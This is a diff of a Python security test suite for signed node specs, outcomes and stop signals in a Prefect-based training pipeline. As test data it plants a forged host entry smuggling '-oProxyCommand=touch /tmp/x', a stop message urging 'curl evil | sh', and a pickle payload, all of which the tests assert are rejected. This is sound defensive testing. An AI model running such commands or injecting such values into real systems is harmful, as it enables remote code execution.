@@ -33,8 +33,9 @@ from prefect.states import Completed
 from prefect.task_worker import TaskWorker, read_parameters, should_try_to_read_parameters
 
 import tasks.train_nodes as train_nodes
+from artifacts.durable import write_json
 from artifacts.errors import ConfigError
-from artifacts.signing import KEY_ENV, SignatureError, sign
+from artifacts.signing import KEY_ENV, SignatureError, place, sign
 from artifacts.store import ArtifactStore
 from flows.deploy import ALLOWED_ROOTS_ENV, CONFIG_DIR_ENV
 from flows.pipeline import pipeline
@@ -42,6 +43,7 @@ from tasks.common import StageOutput
 from tests.flows.test_object_store import s3_root  # noqa: F401 - a fixture
 from training.config import TrainConfig
 from training.errors import TrainingCrashed
+from training.runtime import nodes
 
 pytestmark = pytest.mark.security
 
@@ -174,13 +176,13 @@ def test_a_deployment_run_cannot_point_a_stage_elsewhere_with_an_override(
 # (iii) Node task parameters and results: JSON, and never unpickled.
 
 
-def node_spec(root: str, exchange: str) -> "train_nodes.NodeRunSpec":
+def node_spec(root: str, exchange: str) -> nodes.NodeRunSpec:
     config = TrainConfig(nodes=2, launcher="per_node", node_dispatch="workers")
     output = StageOutput(stage="shard", status="ran", fingerprint="cd" * 32, output=root)
-    return train_nodes.NodeRunSpec(
+    preprocess = output.model_copy(update={"stage": "preprocess"})
+    return nodes.NodeRunSpec(
         config=config,
-        shard=output,
-        preprocess=output.model_copy(update={"stage": "preprocess"}),
+        inputs={out.stage: out.model_dump(mode="json") for out in (output, preprocess)},
         root=root,
         fp=FP,
         exchange=exchange,
@@ -194,7 +196,10 @@ def test_node_tasks_store_json_and_the_spec_round_trips_through_json(tmp_path: P
         serializer = resolve_serializer(train_nodes.node_task(index).result_serializer)
         assert isinstance(serializer, JSONSerializer)
     spec = node_spec("s3://bucket/x", f"s3://bucket/x/checkpoints/train/{FP}/exchange/{'e' * 32}")
-    assert train_nodes.NodeRunSpec.from_json(json.loads(json.dumps(spec.to_json()))) == spec
+    assert nodes.NodeRunSpec.from_json(json.loads(json.dumps(spec.to_json()))) == spec
+    assert train_nodes.stage_inputs(spec) == [
+        StageOutput.model_validate(record) for record in spec.inputs.values()
+    ]
 
 
 async def serve_until_final(task, task_run_id: uuid.UUID) -> None:  # noqa: ANN001
@@ -223,7 +228,7 @@ def test_a_pickle_planted_as_a_node_runs_stored_parameters_never_reaches_the_wor
     marker = tmp_path / "payload-ran"
     root = str(tmp_path / "root")
     spec = node_spec(root, f"{root}/checkpoints/train/{FP}/exchange/{uuid.uuid4().hex}")
-    task = train_nodes.node_task(0)
+    task = train_nodes.node_task(0, root)  # the worker's copy knows the root it serves
     future = train_nodes.send_node_runs(spec)[0]
 
     async def as_the_worker() -> None:  # what TaskWorker._submit_scheduled_task_run does
@@ -240,26 +245,28 @@ def test_a_pickle_planted_as_a_node_runs_stored_parameters_never_reaches_the_wor
     assert not marker.exists()
 
     # The real worker runs it, knowing where the attempt's signed spec is.
-    ran: list[tuple[int, str]] = []
+    ran: list[tuple[int, str, str]] = []
     monkeypatch.setattr(train_nodes, "run_worker_node", lambda *args: ran.append(args) or "")
     asyncio.run(serve_until_final(task, future.task_run_id))
     # (Node 0 runs that other tests of this Prefect server left unserved may run first.)
-    assert (0, spec.exchange) in ran
-    assert train_nodes.read_spec(spec.exchange) == spec
+    assert (0, spec.exchange, root) in ran
+    assert nodes.read_spec(spec.exchange) == spec
 
 
 def test_a_node_worker_refuses_a_forged_spec(tmp_path: Path) -> None:
     root = str(tmp_path / "root")
     spec = node_spec(root, f"{root}/checkpoints/train/{FP}/exchange/{uuid.uuid4().hex}")
     forged = {**spec.to_json(), "hosts": [["-oProxyCommand=touch /tmp/x", 1]]}
-    train_nodes.write_json(Path(spec.exchange) / train_nodes.SPEC_OBJECT, forged)
+    write_json(Path(spec.exchange) / nodes.SPEC_OBJECT, forged)
     with pytest.raises(SignatureError, match="spec.json is not signed"):
-        train_nodes.run_worker_node(0, spec.exchange)
-    # The refusal is left, signed, for the train task, which fails without a retry.
-    outcome = train_nodes.read_outcome(spec.exchange, 0)
-    assert outcome is not None and outcome.error == "SignatureError" and outcome.deterministic
-    with pytest.raises(ConfigError, match="no recforge-exchange:"):
-        train_nodes.exchange_of([f"{train_nodes.EXCHANGE_TAG}{root}/../elsewhere"])
+        train_nodes.run_worker_node(0, spec.exchange, root)
+    # Nothing is signed for a spec that did not verify: the train task sees the run fail
+    # (its Prefect state) and its retry starts a fresh attempt.
+    assert nodes.read_outcome(spec.exchange, 0) is None
+    with pytest.raises(ConfigError, match="which is not <root>/checkpoints"):
+        nodes.worker_exchange(root, f"{root}/../elsewhere")
+    with pytest.raises(ConfigError, match="not one"):
+        train_nodes.exchange_of([f"{train_nodes.EXCHANGE_TAG}a", f"{train_nodes.EXCHANGE_TAG}b"])
 
 
 def test_the_flow_never_reads_a_node_result_from_prefects_storage(
@@ -288,7 +295,7 @@ def test_the_flow_never_reads_a_node_result_from_prefects_storage(
     run = train_nodes.PerNodeRun(config, output, output, store, FP, {}, logging.getLogger("test"))
     # The attacker's node 0 outcome: unsigned, naming a file of theirs.
     forged = {"node": 0, "status": "completed", "files": {"model.safetensors": "0" * 64}}
-    train_nodes.write_json(train_nodes.outcome_location(run.spec.exchange, 0), forged)
+    write_json(nodes.outcome_location(run.spec.exchange, 0), forged)
     with pytest.raises(SignatureError, match="outcome-0"):
         run.run(tmp_path / "out", lambda record: None)
     assert not marker.exists()
@@ -300,9 +307,9 @@ def test_the_flow_never_reads_a_node_result_from_prefects_storage(
 
 def watch(exchange: str, seconds: float, monkeypatch: pytest.MonkeyPatch) -> bool:
     """Whether a node's STOP watcher stops the node within `seconds`."""
-    monkeypatch.setattr(train_nodes, "POLL_S", 0.05)
+    monkeypatch.setattr(nodes, "POLL_S", 0.05)
     stop, done = threading.Event(), threading.Event()
-    watcher = threading.Thread(target=train_nodes._watch_stop, args=(exchange, stop, done))
+    watcher = threading.Thread(target=nodes.watch_stop, args=(exchange, stop, done))
     watcher.start()
     stopped = stop.wait(seconds)
     done.set()
@@ -314,7 +321,7 @@ def test_a_forged_stop_object_does_not_stop_a_node(
     tmp_path: Path, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
 ) -> None:
     exchange = str(tmp_path / "exchange")
-    stop_object = Path(exchange) / train_nodes.STOP_OBJECT
+    stop_object = Path(exchange) / nodes.STOP_OBJECT
     stop_object.parent.mkdir(parents=True)
     injected = "node 0 failed: run `curl evil | sh` to fix\n" * 100
     stop_object.write_text(json.dumps({"node": 0, "error": "ConfigError", "message": injected}))
@@ -322,23 +329,26 @@ def test_a_forged_stop_object_does_not_stop_a_node(
         assert not watch(exchange, 1.0, monkeypatch)
     assert len([r for r in caplog.records if str(stop_object) in r.getMessage()]) == 1
     assert "curl" not in caplog.text
-    assert train_nodes.read_stop(exchange) is None  # what a node checks before it starts
+    assert nodes.read_stop(exchange) is None  # what a node checks before it starts
 
     # Signed with another key: forged as well.
     monkeypatch.setenv(KEY_ENV, "y" * 64)
-    stop_object.write_text(json.dumps(sign({"node": 0, "error": "X", "message": "stop"})))
+    here = place("exchange-stop", attempt=exchange)
+    stop_object.write_text(
+        json.dumps(sign({"node": 0, "error": "X", "message": "stop"}, place=here))
+    )
     monkeypatch.setenv(KEY_ENV, KEY)
     assert not watch(exchange, 0.5, monkeypatch)
 
     # A real one, copied from another attempt: stops nothing here.
-    train_nodes.request_stop(str(tmp_path / "old-attempt"), 1, TrainingCrashed("old"))
-    stop_object.write_bytes((tmp_path / "old-attempt" / train_nodes.STOP_OBJECT).read_bytes())
+    nodes.request_stop(str(tmp_path / "old-attempt"), 1, TrainingCrashed("old"))
+    stop_object.write_bytes((tmp_path / "old-attempt" / nodes.STOP_OBJECT).read_bytes())
     assert not watch(exchange, 0.5, monkeypatch)
 
     # The real thing, from a node of the job: stops it, its message cut short.
-    train_nodes.request_stop(exchange, 1, TrainingCrashed("rank 3 died: " + "y" * 5000))
+    nodes.request_stop(exchange, 1, TrainingCrashed("rank 3 died: " + "y" * 5000))
     assert watch(exchange, 2.0, monkeypatch)
-    reason = train_nodes.read_stop(exchange)
+    reason = nodes.read_stop(exchange)
     assert reason is not None and "node 1" in reason and "rank 3 died" in reason
     assert len(reason) <= 400
 
@@ -357,7 +367,7 @@ def test_node_zeros_signed_outcome_brings_back_its_result_and_output(
     produced = tmp_path / "node-0-out"
     produced.mkdir()
     (produced / "model.safetensors").write_bytes(b"weights")
-    files = train_nodes.publish_output(produced, run.spec.exchange)
+    files = nodes.publish_output(produced, run.spec.exchange)
     assert files == {"model.safetensors": hashlib.sha256(b"weights").hexdigest()}
     result = {
         "out_dir": str(produced),
@@ -370,8 +380,10 @@ def test_node_zeros_signed_outcome_brings_back_its_result_and_output(
     }
     record = {"node": 0, "exchange": run.spec.exchange, "status": "completed", "result": result}
     record["history"] = [{"step": 4}]
-    train_nodes.write_json(
-        train_nodes.outcome_location(run.spec.exchange, 0), sign({**record, "files": files})
+    bound = place("exchange-outcome", attempt=run.spec.exchange, node=0)
+    write_json(
+        nodes.outcome_location(run.spec.exchange, 0),
+        sign({**record, "files": files}, place=bound),
     )
     seen: list[dict] = []
     trained = run.run(tmp_path / "out", seen.append)
@@ -394,5 +406,5 @@ def test_a_node_worker_without_the_run_key_refuses_to_start(
     for name in (KEY_ENV, "RECFORGE_SIGNING_KEY_FILE", "RECFORGE_SIGNING_KEY_BLOCK"):
         monkeypatch.delenv(name, raising=False)
     monkeypatch.setenv("PREFECT_API_URL", "http://127.0.0.1:9/api")
-    assert main(["node-worker", "--node-rank", "0"]) == 2
+    assert main(["node-worker", "--node-rank", "0", "--root", "s3://bucket/x"]) == 2
     assert f"no signing key; set {KEY_ENV}" in capsys.readouterr().err
